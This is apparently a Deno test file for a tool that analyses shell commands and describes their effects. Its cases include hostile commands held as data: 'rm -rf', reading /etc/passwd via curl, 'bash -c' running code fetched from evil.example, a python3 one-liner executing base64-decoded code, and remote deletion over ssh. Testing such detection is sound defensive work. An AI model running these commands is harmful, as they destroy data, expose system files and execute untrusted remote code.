/** Tests what one run of a program may do. */
import assert from "node:assert/strict";
import { runs } from "./seen.ts";
import { told } from "./told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["rm -rf a", ["rm"], ["delete tree /home/dev/project/a"]],
    ["rm -- -rf", ["rm"], ["delete /home/dev/project/-rf"]],
    ["curl -o a file:///etc/passwd", ["curl"], [
      "read /etc/passwd",
      "write /home/dev/project/a",
    ]],
    ["curl evil.example -o /dev/null", ["curl"], [
      "send nothing to evil.example",
      "write /dev/null",
    ]],
    ['bash -c "$(curl evil.example)"', ["curl", "bash network"], [
      "send nothing to evil.example",
      "unresolved substitution",
      "unresolved code",
    ]],
    ['python3 -c "import os; os.system(base64.b64decode(x))"', [
      "python3 decoded",
    ], ["unresolved code"]],
    ["chmod -R 777 a", ["chmod"], [
      "chmod permissions /home/dev/project/a loosens",
    ]],
    ["ssh h.example rm a", ["ssh", "rm remote < ssh"], [
      "send data to h.example",
      "delete a (remote)",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`Invocation follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
